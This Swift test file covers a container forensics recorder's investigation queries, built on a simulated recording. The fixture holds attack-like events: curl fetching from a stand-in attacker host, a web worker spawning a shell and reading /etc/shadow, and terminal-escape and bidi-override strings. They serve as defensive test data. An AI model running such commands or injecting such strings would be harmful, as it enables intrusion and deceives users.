import CasefileModel
@testable import CasefileStore
import CasefileTestSupport
import Foundation
import GRDB
import Testing

/// A small recording made with the real writer (real SQLite, real seals): three containers (two
/// in Kubernetes pods, one its runtime never answered for), processes with a parent chain and a
/// reused PID, exec/open/connect events in containers and on the host, hostile strings, a loss,
/// a clean stop. Times are milliseconds after boot (`Scenario.t`).
///
///     P1 systemd (host, existed) ─┬─ P500 sshd (host cgroup ssh.service, existed) ── P600 bash ── P700a curl
///                                 └─ P900 containerd-shim (host, existed) ─┬─ P1000 nginx (web) ─┬─ P1001 nginx (web)
///                                                                          │                     └─ P700b sh (web: PID 700 reused)
///                                                                          └─ P2000 postgres (db, existed) ── P2001 psql (db)
enum Scenario {
    static let clock = BootClock(offsetNanoseconds: 1_700_000_000_000_000_000, bootID: "00000000-0000-0000-0000-0000000a11ce")
    static let ms: UInt64 = 1_000_000

    /// UTC nanoseconds of `ms` milliseconds after boot.
    static func t(_ milliseconds: UInt64) -> Int64 { clock.utc(milliseconds * ms) }

    static let idA = "a1b2c3d4e5f6" + String(repeating: "a", count: 52)
    static let idB = "b0b0b0b0b0b0" + String(repeating: "b", count: 52)
    static let idC = "c0ffee000000" + String(repeating: "c", count: 52)
    static let podA = "11111111-2222-3333-4444-555555555555"
    static let podB = "99999999-8888-7777-6666-555555555555"
    static let pathA = "/kubepods/pod\(podA)/\(idA)"
    static let pathB = "/kubepods/pod\(podB)/\(idB)"
    static let pathC = "/system.slice/docker-\(idC).scope"
    static let digestA = "sha256:4f2a" + String(repeating: "0", count: 60)
    /// Docker and CRI record a repo digest (`repo@sha256:…`), see `ImageReference`.
    static let digestB = "docker.io/library/postgres@sha256:9e9e" + String(repeating: "1", count: 60)
    static let cgroupA: UInt64 = 1001, cgroupB: UInt64 = 1002, cgroupC: UInt64 = 1003, cgroupSSH: UInt64 = 7

    static let refA = ContainerRef(id: idA, runtime: .containerd, podUID: podA, isRoot: true, cgroupPath: pathA)
    static let refB = ContainerRef(id: idB, runtime: .docker, podUID: podB, isRoot: true, cgroupPath: pathB)
    static let refC = ContainerRef(id: idC, runtime: .docker, podUID: nil, isRoot: true, cgroupPath: pathC)

    static func key(_ pid: UInt32, _ startMilliseconds: UInt64) -> ProcessKey {
        ProcessKey(pid: pid, startBootNanoseconds: startMilliseconds * ms)
    }

    static let p1 = key(1, 10), p500 = key(500, 20), p900 = key(900, 30), p2000 = key(2000, 40)
    static let p600 = key(600, 60), p1000 = key(1000, 110), p1001 = key(1001, 150)
    static let p700a = key(700, 200), p700b = key(700, 300), p2001 = key(2001, 400)

    /// Hostile strings (stored exactly, shown escaped).
    static let hostileArgv: [UInt8] = Array("psql\0-c\0\u{1B}[31mDROP TABLE x;\u{1B}[0m\0\u{202E}txt.exe\0line1\nline2\0".utf8) + [0xFF, 0xFE, 0x00]
    static let hostileComm: [UInt8] = Array("ps\nql".utf8) + [0x9B]
    static let hostilePath: [UInt8] = Array("/tmp/\u{1B}]0;pwned\u{07}".utf8) + [0xC3, 0x28]

    static func event(_ at: UInt64, _ process: ProcessKey, cgroup: UInt64, comm: [UInt8], _ body: Event.Body,
                      parent: ProcessKey? = nil, container: ContainerRef? = nil, removes: String? = nil) -> ResolvedEvent {
        ResolvedEvent(event: Event(bootNanoseconds: at * ms, pid: process.pid, tid: process.pid, cgroupID: cgroup,
                                   comm: ByteString(comm), body: body),
                      time: t(at), process: process, parent: parent, container: container, removesContainer: removes)
    }

    static func fork(_ at: UInt64, _ parent: ProcessKey, _ child: ProcessKey, cgroup: UInt64, comm: String) -> ResolvedEvent {
        event(at, parent, cgroup: cgroup, comm: Array(comm.utf8),
              .fork(Fork(parent: parent, child: child, childTID: child.pid, uid: 0, gid: 0, comm: ByteString(comm))))
    }

    static func exec(_ at: UInt64, _ process: ProcessKey, parent: ProcessKey, ppid: UInt32, cgroup: UInt64, comm: [UInt8],
                     file: String, argv: [UInt8], uid: UInt32 = 0) -> ResolvedEvent {
        event(at, process, cgroup: cgroup, comm: comm,
              .exec(Exec(process: process, ppid: ppid, uid: uid, gid: uid, namespacePID: process.pid, mountNamespace: 1,
                         pidNamespace: 2, oldPID: process.pid, comm: ByteString(comm), filename: ByteString(file),
                         argv: ByteString(argv), argvTruncated: false, filenameTruncated: false)),
              parent: parent)
    }

    static func exit(_ at: UInt64, _ process: ProcessKey, ppid: UInt32, cgroup: UInt64, comm: [UInt8], status: UInt32) -> ResolvedEvent {
        event(at, process, cgroup: cgroup, comm: comm, .exit(Exit(process: process, ppid: ppid, status: status, comm: ByteString(comm))))
    }

    static func open(_ at: UInt64, _ process: ProcessKey, cgroup: UInt64, comm: [UInt8], path: [UInt8], flags: UInt32,
                     mode: UInt32 = 0, result: Int64) -> ResolvedEvent {
        event(at, process, cgroup: cgroup, comm: comm,
              .open(FileOpen(syscall: .openat, result: result, dirFD: FileOpen.atFDCWD, flags: flags, mode: mode, path: ByteString(path))))
    }

    static func connect(_ at: UInt64, _ process: ProcessKey, cgroup: UInt64, comm: String, family: UInt16, address: String,
                        port: UInt16, result: Int64) -> ResolvedEvent {
        event(at, process, cgroup: cgroup, comm: Array(comm.utf8),
              .net(SocketAddressCall(kind: .connect, result: result, fd: 3, family: family, address: ByteString(address), port: port)))
    }

    static func cgroupChange(_ at: UInt64, _ change: CgroupChange.Change, id: UInt64, path: String, by process: ProcessKey,
                             container: ContainerRef, removes: String? = nil) -> ResolvedEvent {
        event(at, process, cgroup: 0, comm: Array("containerd-shim".utf8),
              .cgroup(CgroupChange(change: change, id: id, hierarchyID: 0, level: 3, path: ByteString(path))),
              container: container, removes: removes)
    }

    static func session() -> SessionInfo {
        SessionInfo(host: "node-1", kernel: "6.18 test", machineID: nil, clock: clock, cgroupLayout: "v2", cgroupHierarchy: 0,
                    cgroupMount: "/sys/fs/cgroup", startedAt: t(50), casefileVersion: "test", abiVersion: 1,
                    commandLine: "casefile record", attached: ["cf_exec"], attachFailures: [], ringBufferBytes: 4096)
    }

    static func process(_ key: ProcessKey, parent: ProcessKey?, ppid: UInt32, comm: String, argv: String, cgroup: UInt64? = nil) -> ProcessRecord {
        var p = ProcessRecord(key: key, ppid: ppid, exe: ByteString(argv.split(separator: "\0").first.map(String.init) ?? ""),
                              argv: ByteString(argv), comm: ByteString(comm), uid: 0, gid: 0, cgroupID: cgroup)
        p.parent = parent
        return p
    }

    /// Writes the recording into a new file at `path` and closes it (no -wal is left).
    static func write(to path: String) throws {
        let writer = try SessionWriter(queue: try CaseFile.openForRecording(path: path), session: session())
        var start = StoreBatch()
        start.cgroups = [
            CgroupRecord(hierarchyID: 0, id: cgroupSSH, path: ByteString("/system.slice/ssh.service"), level: 2,
                         createdAt: t(1), existedAtStart: true),
            CgroupRecord(hierarchyID: 0, id: cgroupB, path: ByteString(pathB), level: 3, createdAt: t(5), existedAtStart: true,
                         container: refB, containerSeenAt: t(50), containerCreatedAt: t(5), containerExistedAtStart: true),
        ]
        start.processes = [
            process(p1, parent: nil, ppid: 0, comm: "systemd", argv: "/sbin/init\0"),
            process(p500, parent: p1, ppid: 1, comm: "sshd", argv: "sshd\0-D\0", cgroup: cgroupSSH),
            process(p900, parent: p1, ppid: 1, comm: "containerd-shim", argv: "containerd-shim\0-id\0x\0"),
            process(p2000, parent: p900, ppid: 900, comm: "postgres", argv: "postgres\0-D\0/var/lib/pg\0", cgroup: cgroupB),
        ]
        var metadataB = ContainerMetadata(id: idB, runtime: .docker, source: "docker:/var/run/docker.sock", name: "db",
                                          image: "docker.io/library/postgres:16", imageDigest: digestB,
                                          pod: PodMetadata(uid: podB, name: "db-0", namespace: "data"))
        metadataB.confirmedCgroupPath = pathB
        start.enrichments = [metadataB]
        try writer.write(start)

        var web = StoreBatch()
        web.cgroups = [CgroupRecord(hierarchyID: 0, id: cgroupA, path: ByteString(pathA), level: 3, createdAt: t(100),
                                    container: refA, containerSeenAt: t(100), containerCreatedAt: t(100))]
        web.events = [
            fork(60, p500, p600, cgroup: cgroupSSH, comm: "sshd"),
            exec(61, p600, parent: p500, ppid: 500, cgroup: cgroupSSH, comm: Array("bash".utf8), file: "/bin/bash", argv: Array("-bash\0".utf8), uid: 1000),
            cgroupChange(100, .mkdir, id: cgroupA, path: pathA, by: p900, container: refA),
            fork(110, p900, p1000, cgroup: 0, comm: "containerd-shim"),
            exec(111, p1000, parent: p900, ppid: 900, cgroup: cgroupA, comm: Array("nginx".utf8), file: "/usr/sbin/nginx",
                 argv: Array("nginx\0-g\0daemon off;\0".utf8)),
            fork(150, p1000, p1001, cgroup: cgroupA, comm: "nginx"),
            open(160, p1001, cgroup: cgroupA, comm: Array("nginx".utf8), path: Array("/var/www/index.html".utf8), flags: 0, result: 5),
            connect(170, p1001, cgroup: cgroupA, comm: "nginx", family: 2, address: "10.0.0.9", port: 5432, result: 0),
        ]
        var metadataA = ContainerMetadata(id: idA, runtime: .containerd, source: "cri:/run/containerd/containerd.sock", name: "web",
                                          image: "docker.io/library/nginx:1.27", imageDigest: digestA, labels: ["app": "web"],
                                          pod: PodMetadata(uid: podA, name: "web-0", namespace: "shop"))
        metadataA.confirmedCgroupPath = pathA
        web.enrichments = [metadataA]
        try writer.write(web)

        try writer.write([
            fork(200, p600, p700a, cgroup: cgroupSSH, comm: "bash"),
            exec(201, p700a, parent: p600, ppid: 600, cgroup: cgroupSSH, comm: Array("curl".utf8), file: "/usr/bin/curl",
                 argv: Array("curl\0http://evil.example/x\0".utf8), uid: 1000),
            connect(202, p700a, cgroup: cgroupSSH, comm: "curl", family: 2, address: "203.0.113.7", port: 443, result: -111),
            exit(210, p700a, ppid: 600, cgroup: cgroupSSH, comm: Array("curl".utf8), status: 7 << 8),
            fork(300, p1000, p700b, cgroup: cgroupA, comm: "nginx"),
            exec(301, p700b, parent: p1000, ppid: 1000, cgroup: cgroupA, comm: Array("sh".utf8), file: "/bin/sh",
                 argv: Array("/bin/sh\0-c\0id\0".utf8)),
            open(305, p700b, cgroup: cgroupA, comm: Array("sh".utf8), path: Array("/etc/shadow".utf8), flags: 0, result: -13),
            exit(320, p700b, ppid: 1000, cgroup: cgroupA, comm: Array("sh".utf8), status: 0),
            fork(400, p2000, p2001, cgroup: cgroupB, comm: "postgres"),
            exec(401, p2001, parent: p2000, ppid: 2000, cgroup: cgroupB, comm: hostileComm, file: "/usr/bin/psql", argv: hostileArgv),
            open(402, p2001, cgroup: cgroupB, comm: hostileComm, path: hostilePath, flags: 0o101, mode: 0o644, result: 3),
            exit(410, p2001, ppid: 2000, cgroup: cgroupB, comm: hostileComm, status: 9),
        ], gaps: [Gap(detectedAt: t(500), count: 7, reason: .ringBufferFull)])

        var late = StoreBatch()
        late.cgroups = [CgroupRecord(hierarchyID: 0, id: cgroupC, path: ByteString(pathC), level: 2, createdAt: t(700),
                                     container: refC, containerSeenAt: t(700), containerCreatedAt: t(700))]
        late.events = [
            connect(600, p1, cgroup: 0, comm: "systemd", family: 1, address: "/run/systemd/notify", port: 0, result: 0),
            cgroupChange(700, .mkdir, id: cgroupC, path: pathC, by: p900, container: refC),
            cgroupChange(900, .rmdir, id: cgroupA, path: pathA, by: p900, container: refA, removes: idA),
        ]
        late.enrichmentFailures = [EnrichmentFailure(containerID: idC, source: "docker:/var/run/docker.sock",
                                                     error: "connection refused", at: t(701))]
        try writer.write(late)
        try writer.finish(clean: true, at: t(1000))
        try writer.close()
        guard !FileManager.default.fileExists(atPath: path + "-wal") else {
            throw StoreError.badQuery("the scenario left a -wal beside \(path)")
        }
    }

    /// One copy of the scenario for every test that only reads it.
    private static let shared: Result<String, any Error> = Result {
        let path = try temporaryDirectory("investigation-scenario").appendingPathComponent("case.db").path
        try write(to: path)
        return path
    }

    static func path() throws -> String { try shared.get() }

    /// A private copy (for tests that change it).
    static func copy(_ name: String = #function) throws -> String {
        let path = try temporaryDirectory(name).appendingPathComponent("case.db").path
        try FileManager.default.copyItem(atPath: try Self.path(), toPath: path)
        return path
    }

    /// Rows of `processes` by (pid, start in ms).
    static func processRow(_ key: ProcessKey, in path: String) throws -> Int64 {
        let queue = try DatabaseQueue(path: path)
        defer { try? queue.close() }
        return try queue.read { db in
            try #require(try Int64.fetchOne(db, sql: "SELECT id FROM processes WHERE pid = ? AND start_ticks = ?",
                                            arguments: [Int64(key.pid), Int64(key.startTicks)]))
        }
    }
}

extension Investigation {
    func collect(_ body: (inout CollectedListing) throws -> Void) rethrows -> CollectedListing {
        var listing = CollectedListing()
        try body(&listing)
        return listing
    }
}

extension Selection {
    init(_ configure: (inout Selection) -> Void) {
        self.init()
        configure(&self)
    }
}

extension [[String: SQLValue]] {
    var kinds: [String] { map { $0["kind"]?.string ?? "?" } }
    /// (kind, ms after boot) of each row.
    var kindsAndTimes: [String] {
        map { row in
            let ms = row["time"]?.integer.map { ($0 - Scenario.t(0)) / 1_000_000 }
            return "\(row["kind"]?.string ?? "?")@\(ms.map(String.init) ?? "?")"
        }
    }
}

@Suite struct InvestigationTests {
    static let derivedEverywhere = ["recording_started@50", "events_lost@500", "recording_stopped@1000"]

    // MARK: - Timeline

    @Test func timelineIsInTimeOrderWithDerivedRowsWhereTheyHappened() throws {
        let rows = try Investigation(path: try Scenario.path()).timelineRows()
        #expect(rows.kindsAndTimes == [
            "container_existed@50", "recording_started@50",
            "fork@60", "exec@61",
            "container_created@100", "cgroup_mkdir@100", "fork@110", "exec@111",
            "fork@150", "open@160", "connect@170",
            "fork@200", "exec@201", "connect@202", "exit@210",
            "fork@300", "exec@301", "open@305", "exit@320",
            "fork@400", "exec@401", "open@402", "exit@410",
            "events_lost@500", "connect@600",
            "container_created@700", "cgroup_mkdir@700",
            "container_removed@900", "cgroup_rmdir@900",
            "recording_stopped@1000",
        ])
        let times = rows.compactMap { $0["time"]?.integer }
        #expect(times == times.sorted(), "time order")
        #expect(rows.allSatisfy { $0.count == Investigation.timelineColumns.count })

        func row(_ kind: String, _ ms: Int64) throws -> [String: SQLValue] {
            try #require(rows.first { $0["kind"]?.string == kind && $0["time"]?.integer == Scenario.t(UInt64(ms)) })
        }
        let existed = try row("container_existed", 50)
        #expect(existed["container"]?.string == "db" && existed["pod"]?.string == "data/db-0")
        #expect(existed["container_id"]?.string == Scenario.idB && existed["namespace"]?.string == "data")
        #expect(existed["details"]?.string?.contains("runtime=docker image=docker.io/library/postgres:16") == true, "\(existed)")
        #expect(existed["event_id"] == .null, "a derived row has no events row behind it")
        let created = try row("container_created", 100)
        #expect(created["container"]?.string == "web" && created["pod"]?.string == "shop/web-0")
        #expect(created["image_digest"]?.string == Scenario.digestA)
        let removed = try row("container_removed", 900)
        #expect(removed["container_id"]?.string == Scenario.idA)
        let unanswered = try row("container_created", 700)
        #expect(unanswered["container"]?.string == String(Scenario.idC.prefix(12)), "no name: the short id")
        #expect(unanswered["details"]?.string?.contains("(unconfirmed)") == true)
        let lost = try row("events_lost", 500)
        #expect(lost["details"]?.string?.hasPrefix("7 events lost (ring_buffer_full)") == true, "\(lost)")
        #expect(lost["session"] == .integer(1))
        let started = try row("recording_started", 50)
        #expect(started["details"]?.string == "session 1 on node-1")
        let stopped = try row("recording_stopped", 1000)
        #expect(stopped["details"]?.string == "session 1 on node-1, clean stop")

        // Events carry the container of the cgroup they ran in, the process and its parent.
        let nginx = try row("exec", 111)
        #expect(nginx["pid"] == .integer(1000) && nginx["ppid"] == .integer(900) && nginx["comm"]?.string == "nginx")
        #expect(nginx["container"]?.string == "web" && nginx["pod"]?.string == "shop/web-0" && nginx["namespace"]?.string == "shop")
        #expect(nginx["image"]?.string == "docker.io/library/nginx:1.27")
        #expect(nginx["details"]?.string == "nginx -g 'daemon off;'")
        #expect(nginx["argv"]?.bytes == Array("nginx\0-g\0daemon off;\0".utf8), "argv exact")
        let refused = try row("connect", 202)
        #expect(refused["details"]?.string == "connect 203.0.113.7:443 → ECONNREFUSED  [cgroup /system.slice/ssh.service]", "\(refused)")
        #expect(refused["container"] == .null)
        let shadow = try row("open", 305)
        #expect(shadow["details"]?.string == "open /etc/shadow O_RDONLY → EACCES")
        let host = try row("connect", 600)
        #expect(host["details"]?.string == "connect /run/systemd/notify → 0", "no cgroup: no [cgroup] suffix")

        // Hostile strings: exact bytes in the values (the command line quoted, not escaped: each
        // format escapes once), escaped in a table.
        let psql = try row("exec", 401)
        #expect(psql["argv"]?.bytes == Scenario.hostileArgv)
        #expect(psql["comm"]?.bytes == Scenario.hostileComm)
        #expect(psql["details"]?.bytes == Array("psql -c '\u{1B}[31mDROP TABLE x;\u{1B}[0m' \u{202E}txt.exe line1\nline2 ".utf8) + [0xFF, 0xFE])
        let shown = SafeText.escape(psql["details"]?.bytes ?? [])
        #expect(!shown.contains("\u{1B}") && !shown.contains("\n") && !shown.contains("\u{202E}"), "\(shown)")
        #expect(shown.contains("\\x1B[31mDROP") && shown.contains("\\u{202E}txt.exe") && shown.contains("\\xFF\\xFE"), "\(shown)")
        let written = try row("open", 402)
        #expect(written["details"]?.bytes.map { $0.starts(with: Array("open /tmp/\u{1B}]0;pwned".utf8)) } == true,
                "details of other kinds are the view's text, exact bytes (escaped by each format)")
    }

    @Test(arguments: [
        ("name", ["web"]), ("id prefix", [String(Scenario.idA.prefix(6))]), ("full id", [Scenario.idA]),
        ("two values, one unknown", ["web", "nosuch"]),
    ])
    func containerFilter(_ what: String, _ values: [String]) throws {
        let rows = try Investigation(path: try Scenario.path()).timelineRows(Selection(containers: values))
        #expect(rows.kindsAndTimes == [
            "recording_started@50", "container_created@100", "exec@111", "fork@150", "open@160", "connect@170",
            "fork@300", "exec@301", "open@305", "exit@320", "events_lost@500", "container_removed@900", "recording_stopped@1000",
        ], "\(what)")
        #expect(rows.filter { $0["event_id"] != .null }.allSatisfy { $0["container_id"]?.string == Scenario.idA })
    }

    @Test(arguments: [
        ("pod name", "pod", "web-0"), ("namespace/name", "pod", "shop/web-0"), ("pod uid prefix", "pod", "11111111-22"),
        ("namespace", "namespace", "shop"), ("image reference prefix", "image", "docker.io/library/nginx"),
        ("image with tag", "image", "docker.io/library/nginx:1.27"), ("digest prefix", "image", "sha256:4f2a"),
        ("digest hex prefix", "image", "4f2a00"),
    ])
    func workloadFiltersFindTheWebContainer(_ what: String, _ field: String, _ value: String) throws {
        let investigation = try Investigation(path: try Scenario.path())
        let selection = Selection { s in
            switch field {
            case "pod": s.pods = [value]
            case "namespace": s.namespaces = [value]
            default: s.images = [value]
            }
        }
        let events = try investigation.timelineRows(selection).filter { $0["event_id"] != .null }
        #expect(events.count == 8, "\(what)")
        #expect(events.allSatisfy { $0["container_id"]?.string == Scenario.idA }, "\(what)")
        let containers = try investigation.collect { try investigation.containers(selection, into: &$0) }
        #expect(containers.column("container_id") == [.text(Scenario.idA)], "\(what)")
    }

    @Test func filtersAcrossFieldsAllApply() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let both = Selection { $0.namespaces = ["data"]; $0.images = ["docker.io/library/postgres"] }
        #expect(try investigation.timelineRows(both).filter { $0["event_id"] != .null }.kindsAndTimes
                == ["fork@400", "exec@401", "open@402", "exit@410"])
        let none = Selection { $0.namespaces = ["data"]; $0.containers = ["web"] }
        #expect(throws: StoreError.self) { try investigation.timelineRows(none) }
    }

    /// Docker and CRI store a repo digest (`docker.io/library/postgres@sha256:…`) in
    /// `image_digest`; `--image sha256:9e9e` (the documented digest form) must find it too.
    @Test(arguments: ["sha256:9e9e", "9e9e11", "docker.io/library/postgres@sha256:9e9e"])
    func imageFilterFindsARepoDigest(_ value: String) throws {
        let investigation = try Investigation(path: try Scenario.path())
        let selection = Selection { $0.images = [value] }
        let containers = try investigation.collect { try investigation.containers(selection, into: &$0) }
        #expect(containers.column("container_id") == [.text(Scenario.idB)], "--image \(value)")
    }

    @Test func unknownContainerOrPIDIsNoMatch() throws {
        let investigation = try Investigation(path: try Scenario.path())
        for selection in [Selection(containers: ["nosuch"]), Selection { $0.pods = ["shop/nosuch"] },
                          Selection { $0.namespaces = ["nosuch"] }, Selection { $0.images = ["quay.io/"] }] {
            #expect {
                try investigation.timelineRows(selection)
            } throws: { error in
                guard case StoreError.noMatch(let message) = error else { return false }
                return message.contains("no container in") && message.contains("casefile containers")
            }
        }
        #expect {
            try investigation.timelineRows(Selection(pid: 4242))
        } throws: { error in
            guard case StoreError.noMatch(let message) = error else { return false }
            return message.contains("no process with PID 4242")
        }
        let unknown = Selection(containers: ["nosuch"])
        var sink = CollectedListing()
        #expect(throws: StoreError.self) { try investigation.containers(unknown, into: &sink) }
        #expect(throws: StoreError.self) { try investigation.pods(unknown, into: &sink) }
        #expect(throws: StoreError.self) { try investigation.cgroups(unknown, into: &sink) }
        #expect(throws: StoreError.self) { try investigation.processes(unknown, into: &sink) }
        #expect(throws: StoreError.self) { try investigation.tree(unknown, into: &sink) }
        #expect(throws: StoreError.self) { try investigation.processes(Selection(pid: 4242), into: &sink) }
        #expect(throws: StoreError.self) { try investigation.timelineRows(Selection(kinds: ["bogus"])) }
    }

    @Test func pidFilterTakesEveryInstanceOfAReusedPID() throws {
        let rows = try Investigation(path: try Scenario.path()).timelineRows(Selection(pid: 700))
        #expect(rows.kindsAndTimes == [
            "recording_started@50",
            "fork@200", "exec@201", "connect@202", "exit@210",
            "fork@300", "exec@301", "open@305", "exit@320",
            "events_lost@500", "recording_stopped@1000",
        ], "both instances, each with the fork that made it; no container rows under a process filter")
        let keys = Set(rows.compactMap { $0["process_key"]?.integer })
        #expect(keys.count == 4, "the two forks' parents (600, 1000) and the two instances of 700: \(keys)")
    }

    /// Descendants follow parent links, not PIDs: the other process that had PID 700 is not one.
    @Test func descendantsFollowParentLinksAcrossPIDReuse() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let shell = try investigation.timelineRows(Selection { $0.pid = 600; $0.descendants = true })
        #expect(shell.filter { $0["event_id"] != .null }.kindsAndTimes == ["fork@60", "exec@61", "fork@200", "exec@201", "connect@202", "exit@210"])
        let web = try investigation.timelineRows(Selection { $0.pid = 1000; $0.descendants = true })
        #expect(web.filter { $0["event_id"] != .null }.kindsAndTimes
                == ["fork@110", "exec@111", "fork@150", "open@160", "connect@170", "fork@300", "exec@301", "open@305", "exit@320"])
        let withoutDescendants = try investigation.timelineRows(Selection(pid: 1000))
        #expect(withoutDescendants.filter { $0["event_id"] != .null }.kindsAndTimes == ["fork@110", "exec@111", "fork@150", "fork@300"])
        let ps = try investigation.collect { try investigation.processes(Selection { $0.pid = 1000; $0.descendants = true }, into: &$0) }
        #expect(ps.column("pid") == [.integer(1000), .integer(1001), .integer(700)])
        #expect(ps.column("started").compactMap(\.integer) == [Scenario.t(110), Scenario.t(150), Scenario.t(300)])
    }

    @Test(arguments: [
        (["exec"], ["exec@61", "exec@111", "exec@201", "exec@301", "exec@401"]),
        (["network"], ["connect@170", "connect@202", "connect@600"]),
        (["file", "exit"], ["open@160", "exit@210", "open@305", "exit@320", "open@402", "exit@410"]),
        (["lifecycle"], ["container_existed@50", "recording_started@50", "container_created@100", "events_lost@500",
                         "container_created@700", "container_removed@900", "recording_stopped@1000"]),
        (["events_lost", "cgroup"], ["cgroup_mkdir@100", "events_lost@500", "cgroup_mkdir@700", "cgroup_rmdir@900"]),
        (["container_removed", "privilege"], ["container_removed@900"]),
    ])
    func kindFilter(_ kinds: [String], _ expected: [String]) throws {
        let rows = try Investigation(path: try Scenario.path()).timelineRows(Selection(kinds: kinds))
        #expect(rows.kindsAndTimes == expected, "\(kinds)")
    }

    @Test func timeWindowAndLimit() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let window = try investigation.timelineRows(Selection { $0.since = Scenario.t(150); $0.until = Scenario.t(305) })
        #expect(window.kindsAndTimes == ["fork@150", "open@160", "connect@170", "fork@200", "exec@201", "connect@202", "exit@210",
                                         "fork@300", "exec@301", "open@305"], "inclusive at both ends")
        let derived = try investigation.timelineRows(Selection { $0.since = Scenario.t(500); $0.until = Scenario.t(900) })
        #expect(derived.kindsAndTimes == ["events_lost@500", "connect@600", "container_created@700", "cgroup_mkdir@700",
                                          "container_removed@900", "cgroup_rmdir@900"])
        #expect(try investigation.timelineRows(Selection(limit: 3)).kindsAndTimes == ["container_existed@50", "recording_started@50", "fork@60"])
        #expect(try investigation.timelineRows(Selection(limit: 0)).isEmpty)
        #expect(try investigation.timelineRows(Selection(kinds: ["exec"], limit: 2)).kindsAndTimes == ["exec@61", "exec@111"])
        #expect(try investigation.timelineRows(Selection { $0.since = Scenario.t(2000) }).isEmpty)
        #expect(try investigation.lastEventTime() == Scenario.t(900))
    }

    /// The same command on the same file gives the same rows in the same order: containers that
    /// were running when the recording started are all first seen at its start (equal times).
    @Test func timelineOrderIsTheSameEveryTime() throws {
        let path = try temporaryDirectory().appendingPathComponent("case.db").path
        let writer = try SessionWriter(queue: try CaseFile.openForRecording(path: path), session: Scenario.session())
        var batch = StoreBatch()
        batch.cgroups = (0..<6).map { i in
            let id = String(repeating: "\(i)", count: 64)
            let ref = ContainerRef(id: id, runtime: .docker, podUID: nil, isRoot: true, cgroupPath: "/docker/\(id)")
            return CgroupRecord(hierarchyID: 0, id: 2000 + UInt64(i), path: ByteString("/docker/\(id)"), level: 2, createdAt: Scenario.t(1),
                                existedAtStart: true, container: ref, containerSeenAt: Scenario.t(50), containerCreatedAt: Scenario.t(1),
                                containerExistedAtStart: true)
        }
        try writer.write(batch)
        try writer.finish(clean: true, at: Scenario.t(60))
        try writer.close()
        let first = try Investigation(path: path).timelineRows().map { $0["container_id"]?.string ?? "-" }
        #expect(first.count == 8)
        for _ in 0..<10 {
            let again = try Investigation(path: path).timelineRows().map { $0["container_id"]?.string ?? "-" }
            #expect(again == first, "rows with equal times come in a stable order")
            if again != first { break }
        }
    }

    // MARK: - Listings

    @Test func containersPodsAndCgroups() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let containers = try investigation.collect { try investigation.containers(Selection(), into: &$0) }
        #expect(containers.columns == Investigation.containerColumns)
        let rows = containers.keyedRows
        #expect(rows.map { $0["container_id"]?.string } == [Scenario.idB, Scenario.idA, Scenario.idC], "in order of appearance")
        #expect(rows.map { $0["id"]?.string } == [Scenario.idB, Scenario.idA, Scenario.idC].map { String($0.prefix(12)) })
        #expect(rows.map { $0["name"]?.string } == ["db", "web", nil])
        #expect(rows.map { $0["pod"]?.string } == ["data/db-0", "shop/web-0", nil])
        #expect(rows.map { $0["state"]?.string } == ["running at start, confirmed", "confirmed", "unconfirmed"])
        #expect(rows[1]["lifetime"] == .integer(800_000_000), "created at 100 ms, removed at 900 ms")
        #expect(rows[0]["lifetime"] == .null, "running at start: its lifetime is not known")
        #expect(rows[1]["enrichment"]?.string == "cri:/run/containerd/containerd.sock")
        #expect(rows[2]["enrichment"]?.string == "failed: connection refused")
        #expect(rows[1]["labels"]?.string == #"{"app":"web"}"#)
        #expect(rows[0]["image_digest"]?.string == Scenario.digestB)

        let late = try investigation.collect { try investigation.containers(Selection { $0.since = Scenario.t(950) }, into: &$0) }
        #expect(late.column("container_id") == [.text(Scenario.idB), .text(Scenario.idC)], "web was removed before the window")
        let early = try investigation.collect { try investigation.containers(Selection { $0.until = Scenario.t(60) }, into: &$0) }
        #expect(early.column("container_id") == [.text(Scenario.idB)], "web and the unanswered one came later")
        let limited = try investigation.collect { try investigation.containers(Selection(limit: 1), into: &$0) }
        #expect(limited.rows.count == 1)

        let pods = try investigation.collect { try investigation.pods(Selection(), into: &$0) }
        #expect(Set(pods.column("uid")) == [.text(Scenario.podA), .text(Scenario.podB)])
        #expect(pods.keyedRows.allSatisfy { $0["containers"] == .integer(1) })
        let shop = try investigation.collect { try investigation.pods(Selection { $0.namespaces = ["shop"] }, into: &$0) }
        #expect(shop.keyedRows.map { "\($0["namespace"]?.string ?? "?")/\($0["name"]?.string ?? "?")" } == ["shop/web-0"])

        let cgroups = try investigation.collect { try investigation.cgroups(Selection(), into: &$0) }
        #expect(cgroups.column("path").compactMap(\.string) == [Scenario.pathA, Scenario.pathB, Scenario.pathC, "/system.slice/ssh.service"])
        #expect(cgroups.column("container").compactMap(\.string) == ["web", "db", String(Scenario.idC.prefix(12))])
        let web = try investigation.collect { try investigation.cgroups(Selection(containers: ["web"]), into: &$0) }
        #expect(web.keyedRows.map { $0["path"]?.string } == [Scenario.pathA])
        #expect(web.keyedRows.first?["removed"] == .integer(Scenario.t(900)))
    }

    @Test func ps() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let all = try investigation.collect { try investigation.processes(Selection(), into: &$0) }
        #expect(all.columns == Investigation.processColumns)
        let rows = all.keyedRows
        #expect(rows.map { $0["pid"]?.integer } == [1, 500, 900, 2000, 600, 1000, 1001, 700, 700, 2001], "in order of start")
        func row(_ pid: Int64, _ ms: UInt64) throws -> [String: SQLValue] {
            try #require(rows.first { $0["pid"]?.integer == pid && $0["started"]?.integer == Scenario.t(ms) })
        }
        #expect(try row(700, 200)["exit"]?.string == "code 7")
        #expect(try row(700, 300)["exit"]?.string == "code 0")
        #expect(try row(2001, 400)["exit"]?.string == "signal 9")
        #expect(try row(1000, 110)["exit"] == .null)
        #expect(try row(700, 300)["container"]?.string == "web" && row(700, 300)["pod"]?.string == "shop/web-0")
        #expect(try row(700, 200)["container"] == .null)
        #expect(try row(2000, 40)["existed_at_start"] == .integer(1))
        #expect(try row(700, 200)["command"]?.string == "curl http://evil.example/x")
        #expect(try row(2001, 400)["argv"]?.bytes == Scenario.hostileArgv)
        #expect(try row(2001, 400)["comm"]?.bytes == Scenario.hostileComm)
        #expect(try row(1001, 150)["command"] == .null && row(1001, 150)["comm"]?.string == "nginx", "forked, never exec'd")

        let web = try investigation.collect { try investigation.processes(Selection(containers: ["web"]), into: &$0) }
        #expect(web.column("pid") == [.integer(1000), .integer(1001), .integer(700)])
